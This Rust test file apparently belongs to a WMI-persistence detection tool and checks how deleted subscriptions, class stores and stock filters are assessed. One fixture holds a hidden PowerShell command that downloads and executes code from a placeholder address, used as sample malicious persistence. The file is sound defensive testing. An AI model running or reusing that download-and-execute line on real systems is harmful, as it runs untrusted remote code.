//! What was deleted is told, and is no infection of today.

use crate::assessment::{Action, Assessment, Kind, Severity, Stage, Verdict};
use crate::test_support::{evidence_of, object, records_of};
use evidence::{Area, ClassProperty, Evidence, ReadState, RecordData, WmiClass, WmiObject};
use intel::Intel;

/// Records that a repository has deleted.
fn deleted(records: impl IntoIterator<Item = RecordData>) -> Evidence {
    let mut evidence = records_of(records);
    evidence.sources[0].format = "cim-repository-deleted".into();
    evidence
}

/// What is there, all of it read, and what was there.
fn assess(
    there: impl IntoIterator<Item = WmiObject>,
    was: impl IntoIterator<Item = RecordData>,
) -> Assessment {
    let mut evidence = evidence_of(there);
    let areas = [
        Area::EventFilters,
        Area::EventConsumers,
        Area::Bindings,
        Area::OtherNamespaces,
        Area::ConsumerClasses,
        Area::ClassStores,
    ];
    for area in areas {
        evidence.coverage.add(area, ReadState::Complete);
    }
    evidence.merge(deleted(was));
    crate::assess(&evidence, Intel::builtin())
}

fn store() -> RecordData {
    RecordData::WmiClass(WmiClass {
        name: "Office_Updater".into(),
        namespace: Some(r"root\default".into()),
        properties: vec![ClassProperty {
            name: "mimi".into(),
            cim_type: "string".into(),
            default: Some("QUJD".repeat(1000).into()),
        }],
        ..WmiClass::default()
    })
}

fn consumer() -> WmiObject {
    let line = "powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')";
    object(
        "CommandLineEventConsumer",
        &[("Name", "c"), ("CommandLineTemplate", line), ("ExecutablePath", "")],
    )
}

fn filter() -> WmiObject {
    let query = "select * from __TimerEvent";
    object("__EventFilter", &[("Name", "f"), ("Query", query), ("QueryLanguage", "WQL")])
}

fn binding() -> WmiObject {
    object(
        "__FilterToConsumerBinding",
        &[("Filter", "__EventFilter.Name=\"f\""), ("Consumer", "CommandLineEventConsumer.Name=\"c\"")],
    )
}

fn first_reasons(assessment: &Assessment) -> Vec<(Kind, Severity, Action, &str)> {
    let findings = assessment.findings.iter().filter(|finding| finding.kind != Kind::StockMissing);
    findings.map(|f| (f.kind, f.severity, f.action, f.reasons[0].id.as_ref())).collect()
}

#[test]
fn a_deleted_store_is_told_and_the_machine_can_be_clean() {
    let clean = assess([], [store()]);
    assert_eq!(
        first_reasons(&clean),
        [(Kind::ClassStore, Severity::Low, Action::None, "reason-deleted-gone")]
    );
    assert_eq!(clean.verdict, Verdict::Clean);

    let mut unread = deleted([store()]);
    unread.coverage.add(Area::ClassStores, ReadState::Partial);
    let unread = crate::assess(&unread, Intel::builtin());
    assert_eq!(
        first_reasons(&unread),
        [(Kind::ClassStore, Severity::Medium, Action::Review, "reason-deleted")]
    );
    assert_eq!(unread.verdict, Verdict::Suspicious, "nothing tells that it is gone");

    let mut still = records_of([store()]);
    still.merge(deleted([store()]));
    let still = crate::assess(&still, Intel::builtin());
    assert_eq!((still.findings.len(), still.verdict), (1, Verdict::Infected));
}

#[test]
fn deleted_parts_of_subscriptions_are_told_whatever_they_are() {
    let was = [consumer(), filter(), binding()].map(RecordData::WmiObject);
    let whole = assess([], was.clone());
    assert_eq!(whole.verdict, Verdict::Clean);
    assert_eq!(
        first_reasons(&whole),
        [(Kind::Subscription, Severity::Low, Action::None, "reason-deleted-gone")]
    );
    for part in was {
        let part = assess([], [part]);
        assert_eq!(part.verdict, Verdict::Clean);
        assert_eq!(
            first_reasons(&part),
            [(Kind::Orphan, Severity::Low, Action::None, "reason-deleted-gone")]
        );
    }
    let timer = object("__IntervalTimerInstruction", &[("TimerId", "t")]);
    assert_eq!(assess([], [RecordData::WmiObject(timer)]).verdict, Verdict::Clean);
}

#[test]
fn a_deleted_binding_binds_nothing() {
    let assessment = assess([consumer(), filter()], [RecordData::WmiObject(binding())]);
    let found = |kind: Kind| assessment.findings.iter().filter(|finding| finding.kind == kind).count();
    assert_eq!((found(Kind::Subscription), found(Kind::Orphan)), (0, 2), "{:#?}", assessment.findings);
}

#[test]
fn a_deleted_stock_entry_is_missing() {
    let stock = object(
        "__EventFilter",
        &[
            ("Name", "SCM Event Log Filter"),
            ("Query", "select * from MSFT_SCMEventLogEvent"),
            ("QueryLanguage", "WQL"),
            ("EventNamespace", r"root\cimv2"),
        ],
    );
    let missing = |assessment: Assessment| {
        let found = assessment.findings.into_iter().find(|finding| finding.kind == Kind::StockMissing);
        found.map(|finding| finding.subject["missing"].to_string()).unwrap_or_default()
    };
    assert!(missing(assess([], [RecordData::WmiObject(stock.clone())])).contains("filter"));
    assert!(!missing(assess([stock], [])).contains("filter"));
}

#[test]
fn what_is_gone_differs_no_longer() {
    let compare = |assessment: &Assessment| {
        assessment
            .stages
            .iter()
            .find(|state| state.stage == Stage::Compare)
            .map(|state| state.summary.clone())
    };
    assert_eq!(compare(&assess([], [store()])), compare(&assess([], [])));
}
